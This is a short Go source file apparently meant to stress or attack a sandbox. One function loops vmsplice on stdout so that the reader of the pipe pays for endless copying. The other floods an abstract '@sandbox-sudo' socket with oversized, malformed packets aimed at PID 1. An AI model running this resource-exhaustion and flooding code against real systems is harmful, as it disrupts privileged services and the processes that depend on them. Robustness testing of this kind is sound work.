package main

import (
	"golang.org/x/sys/unix"
)

// spliceForever gives the pipe at standard output the same pages again and
// again: whoever reads it copies them, and pays.
func spliceForever() error {
	_, _ = unix.FcntlInt(1, unix.F_SETPIPE_SZ, 1<<20)
	page := make([]byte, 1<<20)
	iov := []unix.Iovec{{Base: &page[0]}}
	iov[0].SetLen(len(page))
	for {
		if _, err := unix.Vmsplice(1, iov, 0); err != nil {
			return err
		}
	}
}

// badSudo has PID 1 read packets that are no requests.
func badSudo() error {
	packet := []byte(`{"argv":["` + string(make([]byte, 100_000)) + `"]`)
	for {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		if err = unix.Connect(fd, &unix.SockaddrUnix{Name: "@sandbox-sudo"}); err == nil {
			_, err = unix.Write(fd, packet)
			_, _ = unix.Read(fd, make([]byte, 64)) // its answer, or the end
		}
		_ = unix.Close(fd)
		if err != nil && err != unix.EAGAIN && err != unix.EPIPE && err != unix.ECONNRESET {
			return err
		}
	}
}
